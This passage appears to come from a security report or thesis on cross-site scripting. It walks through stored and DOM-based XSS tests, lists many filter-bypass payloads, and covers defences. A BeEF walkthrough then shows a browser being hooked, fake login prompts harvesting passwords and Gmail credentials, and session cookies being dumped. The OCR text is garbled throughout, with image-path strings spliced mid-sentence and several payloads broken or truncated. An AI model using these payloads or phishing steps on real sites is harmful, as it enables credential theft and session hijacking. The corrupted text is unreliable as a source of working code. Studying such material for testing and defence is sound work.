test for any type of stored XSSvulnerability.

The application is proved to be vulnerable. Every time a user loads the page to sign
the guestbook, the alert box is triggered.
The two previous XSS attacks relied on the server returning a response
page with the attacker code being carried by it. DOM based XSS utilizes a different
method, where upon a user going to a specific URL, the payload is embedded in the
page already. Ignoring any payload delivered by the a URL response, the client side
browser executes the code, and in a reverse way, dynamically interacts with a static
URL. When a victim clicks on the crafted link, they are not dynamically delivered
any payload, but their browser takes the hard coded malicious script and executes it
instead. DOM based XSS is not necessarily detectable server side as the code is
never seen by theserver. When the browser accesses the vulnerable URL, it beings
to build DOM by pulling attributes from objects referenced by specific properties.
(ex:document.url) The document objects that contain the payload are added to the
property, such as, and the malicious script is now parsed into
the HTML. The attack is mounted and most likely successful at this point.


Above, a command to firebug is issued. The localStorage.setItem command will

effectively add code to the testers local DOM storage.

The DOM is subsequently checked using firebug, and it is confirmed that the
attributes Attack Attempt, Confirmed were actually added using the setItem

The attacker in the figure above is now able to test for injection. The abovecode
will instruct a browser to run a script that adds to the DOM, (SCRIPT,
EXECUTED). Anyone visiting this page will have this injection run when the
browser builds the page.


The blog posting is successful, and no malicious code explicitly shows up. Logged in
as another user, the tester should visit the same page and check their local storage
to see if the script ran. If the user is exploited, the browsers local DOM will reflect
what the payload instructed.

The DOM is checked revealing a massive issue. The user has run the malicious
payload. Obviously, this test confirms the vulnerability, but a more malicious
payload would be used by an actual attacker. Executing a Trojan, keylogger,
stealing credentials, or defacing the page itself are just some of the many methods
an actual malicious attacker would leverage against users browsers.
XSS attacks are very versatile in their attack vectors. Virtual
defacement occurs when the sites contents are not physically changed, but the
XSS attack displays content on top of the site, or does a tricky redirect with
defacement content. This ranges from simple mocking photos, to defamatory
statements that could cause financial gain for the attacker, and financial ruin for the
victim site. Visualize an attacker who executes a script on the victim site
explaining they are out of business, and that the partner site should be visited
instead(with an appropriate link of course). Another example, as mentioned
previously, is session hijacking and privilegeescalation. If an admin getstheir
session token compromised by an XSS attack, the attacker can place a Trojan form
on the site with the escalated privileges they have recently received. The Trojan
form would effectively log the account details of allmembers who log in. Most
troubling, imagine a shopping application that is being exploited by a stored XSS

injection. When the user goes to the checkout page they are prompted with a credit
card form field that is not actually from the company. These attacks are devastating
because the attackers do not need to phish victims into going to a different site
hosted on another domain and server. The SSL certificates stay the same as the
attacks are kept on the actual victim site. To further complicate things for victim
sites, the nature of stored XSS attacks allow the attacks to take on worm like
qualities. The famous MySpace stored XSS attack is a good example of this. The
attacker created a payload that caused any user visiting his page to automatically
add him as a friend. To make matters worse, the script was then injected into their
page as well. This accomplished two things: it caused mass exploitation of multiple
users with little legwork from the actual hacker, and in a sense it made it harder to
trace the source of the offender. Based on this propagation quality of XSS, attackers
can exploit users to act as zombie offenders. The victim user gets hit with a
malicious payload that performs maliciousactivity to the application from their own
account, acting on the attackers behalf.
The delivery of reflective XSS attacks and stored XSS attacks come in
multiple flavors. Simply spamming links on forums and sites can be a hit or miss
method to exploit users. Sendingtargeted emails to specific users, or just mass
mailing spam with the malicious link can be effective. Attackers will also simply
host their own website with interesting click worthy content that is actually a haven
for infecting users. Other attackers will essentially pay for victims; by paying more
popular sites or simply the site they are targeting, to allow the attackers to host ads
on the site In question. When the attackers add gets clicks, they get infections or
sessions depending on the vector. It is extremely common for websites to employ
a mechanism where a user can contact the administrator of a site, or use a tell a
friend feature of some sort. This is a haven where post request stored XSS attacks
to occur. It should further be clarified that a reflectiveXSS attack requires the
generation of a GET request, where a stored attack employs a POST. Most of the
stored attacks discussed thus far would be classified as in-band attacks, where
the script executes on the application because of input submitted through a form
field of some type that is integrally built into the application. Out of band attacks
differ in the sense that a different channel is used to broadcast the attack, but
ultimately the script is still executed on the applications domain. Specifically, a
payload sent through email, which obviously hits an SMTP server first, but only
becomes malicious when the html is rendered on the web applications email
Finding XSS attacks is not limited to the weak popup alert of any
message. For example:<script>alert(document.cookie)</script> displays the
user cookie, most likely chained together with further script to send to an attacker


The injecting of the script <img src="""",'height=800,width=800');> causes the
application to redirect to another site when the first site fails to open. This payload
could be used to redirect users to a malicious site that injects malware.
Applications will look to sanitize data by escaping characters, applying
white lists, blacklists, etc. There are many ways to circumvent these filters by using
encoding, using different tagging characters, changing case, doubling characters
that get escaped(<scr<script>ipt>), combining multiple scripting languages
together,working around the . character when it is being blocked.
The most basic filters will without a doubt block the <script> tag.
Fortunately, there are ways to circumvent this. An example from the Web
Application Hackers Handbook specifies, <objectdata=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==> as
many time an effective bypass. The base 64 encoded string
PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==> decodes exactly to
Using different event handlers to invoke scripts is effective as well.
Consider for example: </a onmousemove=alert(EXECUTE>. Common sense
tells the tester that this would be invoked immediately, and it avoids common filter
tags In the process.
<embed src=javascript:alert(test)> is example of script pseudo
code that will execute in browsers as well. The pseudo script gives the advantage
that is may bypass certain filters where the attributes being injected into are to
receive URL parameters.
Bypassing filters can be done by manipulating the tag name. Consider
the original example of <img onerror=alert("hack") src=b>. Simply changing the
image case iMg can bypass filters. The use of null bytes or empty spaces can also
bypass filters when being inserted within the tag. <[%00]img onerror=alert("hack")
src=b> or <i[%00]mg onerror=alert("hack") src=b> are good examples of this.
More tag manipulation to bypass filters includes the use of adding spaces after the

tag name and before the attribute. Consider these examples:<img/
onerror=alert("hack") src=b>, <img/ onerror=alert("hack") src=b>, <img/
onerror=alert("hack") src=b>, <img/BYPASSPLEASE/ onerror=alert("hack") src=b>,
and <img [%0a] onerror=alert("hack") src=b>.
An attacker can use the same null byte bypass on the attribute name,
not just the tag. This will evade many signature based filters. Ex: <img
on[%00}error.. .
The attacker can also manipulate the actual attributes by usingdelimiters to eliminate whitespaces that inevitably follow the attribute value.
For example: <img onerror=alert("hack") src=b>,<img onerror=alert("hack")
The attributes can be exposed to further manipulation by the order, and adding
backticks to make the filter think there is no event handler occurring.
Ex: <img src=b onerror=alert(HACKED)>
Attribute values are decoded by the browser before being passed on to
the ensuing application, which infers that parts of value names can be encoded with
html to pass some filters. This is an example of the a in alert being html
encoded to bypass a filter: <img onerror=alert("hack") src=b>. The following
can also be done for further tricking of filters. The way html decoding works, allows
an attacker to append zeroes to the end of the encoded character. It will produce
outputs like the following: 愀, a, and =.
That is not all. Hexadecimal as well as decimal format can be used and the attackercan also try variations where the semicolon is omitted.
A powerful means of filter bypass is to employ the encoding methods of
UTF-7, US-ASCII, and UTF-16. <script>alert(1)</script> encoded as :
UTF-7: +ADw-script+AD4-alert(1)+ADw-/script+AD4-
The challenge with using these encoding methods is to get the browser to actually
process it with the correct character set. Intercepting and modifying the ContentType header can allow this to function.
Other escape methods are able to be used. Unicode escapes,
hexadecimals escapes, and octal escapes even.
Example of a Unicode escape in alert:a\u006clert

Beating sanitation removal involves multiple creative steps. Apply
<script><script>.. if the filter does not escape <script> recursively. In
situations where there is multiple steps of sanitation being attempted, efforts should
be made to analyze the order. Applying <scr<object>ipt> would allow a
successful injection if the filter looked to sanitize script recursively.

Medium security filter bypass with: <img src='s' onerror=prompt('vulnerable')>.Switching around the attributes and using delimiters tricks the application into
thinking there is no event handle starting effectively with onand that there is
only one attribute.

To eliminate XSS vulnerabilities a three rule approach should be

followed. First is must be understand thoroughly how XSS operates. Anywhere in
an application where user input is passed in responses, whether through POST or
GET requests, requires close examination. This obviously means all in band
channels where user input is passed, but out of band such as smtp to html. User
input must be validated and sanitized, user output must be validated and sanitized,
and dangerous insertion points must be eradicated.
When user input is passed into responses, the relevance of the
response must be taken into account. Length limiting and heavy character limiting
should be applied based on the function being interacted with. Where a credit card
field is only a certain number of digits, only digits should be allowed,and the
specific length should be enforced. Email address fields dont need certain special
characters. Any useful data to the attacker needs to be filtered, escaped, and html
encoded. HTML encoding user supplied input gives an assurance that malicious
payloads are not integrated into the structure of the site itself, but as part of the
html of the site. It is preferable that user input is never passed into event handlers
as javascript strings, but if it is necessary than heavy escaping needs to occur. The
method is to escape the quotation character and blackslashcharacter with
backslashes, and then html encode the semicolon character and ampersand
character so the attacker cannot perform html encoding themselves. Overall, the
best practice would be to HTML encode all nonalphanumeric characters. The

defense in depth approach of input validation, and output validation is necessary to
defeat XSS. There are many instances where user supplied input should never be
passed as input. Code that is contained within event handlers, and existing script
code, most notably script code where there are URLs being passed as values should
absolutely not contain user supplied input.
It should be understood that web applications exist that need actualusers to submit HTML code with user input.Regardless, strict rules should be
deployed that limit user supplied HTML code. Where HTML code submitted by users
is being used, it cannot be HTML encoded, as it would appear on the screen in
markup language. This implies that such heavy filtering and encoding cannot be
used universally across an application like this. In this situation, a heavy whitelist of
only certain tags as well as attributes should be used. Careful measures also must
be taken to limit HTML code, neutering it from being able to invoke any scripts.
Securing DOM based issues with XSS is tricky as the input is never
actually passed by the serverreponse, as it is built client side by the browser.
Inherently, avoiding allowing client side scripts to pull from the DOM to build the site
should be disallowed as much as possible. Where this must occur, a similar
approach is taken when securing against stored and reflective attacks. Input
validation controls should be applied and whitelist alphanumeric characters only,
and only one parameter should be contained in the query string. Output validation
once again falls on heavy encoding so the data can be displayed safely on the page
as HTML.
Testing for XSS has been shown extensively, but a penetration tester
would not be taken too seriously if all they showed the company at risk dialog boxes
popping up. XSS allows the leveraging of very powerful tools that have their own
payloads, and when such payloads are executed, the tool is able to hook into the
users browser and launch attacks. BEEF framework tool will be used to hook into
the victims browser after the script is executed, effectively allowing the stealing
credentials, user login sessions, network scanning firewall bypass, and Google
phishing pages.

BEEEF xss hooking service started on port 3000.


The applications functionality Is inspected.

Possible area to test for vulnerability as user input is reflected dynamically on the site.The payload is pointed to the URL parameter that will be reflectively served to the user.
<script src=</script>

A windows browserappears as online in the BEEF tool, notifying us remotely that
the injection and hook was successful.


A fake prompt is pushed to the user's browser, telling them to reenter their password to stay logged in.

The hooked browser receives the prompt.

BEEF receives the password.


A fake phishing login is pushed to the users browser. Notice the domain is not Google, but the vulnerable site.

The user is automatically redirected to the real Google site after submitting the credentials.

BEEF harvests gmail credentials successfully.BEEF is commanded to dump the users current session cookie. This cookie can be placed into the cookie header of
an http request and hijack the session without a password.

Other interesting commands built into the hooking tool for network scans. Denial of
service attacks can be performed, or more satisfyingly, internal network scans of
the users network. Having the user perform the scans on an attackers behalf not
only allows the bypass of external firewalls, but lets the attacker map out further
attacks as they find ways to pivot through the system.


Cross site request forgery is aimed at forcing a user of some website; to
perform an unintended action on their website, by clicking a link on methodically
placed other website. These attacks can persist and succeed where XSS fails. The
user only needs to be manipulating in making a specific request to their already
vulnerable application. URL requests on vulnerable sites that perform powerful
functions are ripe for XSRF when they share 3 common issues. The first issue that
makes XSRF possible is weak session handling. Where there is only a simple httpcookie tracking the session, and no other parameters in place that dictate state, the
requests in question are vulnerable. Secondly, the privileged action in question is
being passed through URL parameters and it is very simple to deduce what the
function is. Thirdly, and though this may be comparable to the weak http cookie, all
parameters needed to execute the action are known to the attacker. Early defenses
against crafted URLS from across domain spaces was to validate what was actually
being requested, was being performed. For example, perhaps an attacker crafted a
site that needed to leverage more power than what simple <img> tags embedded
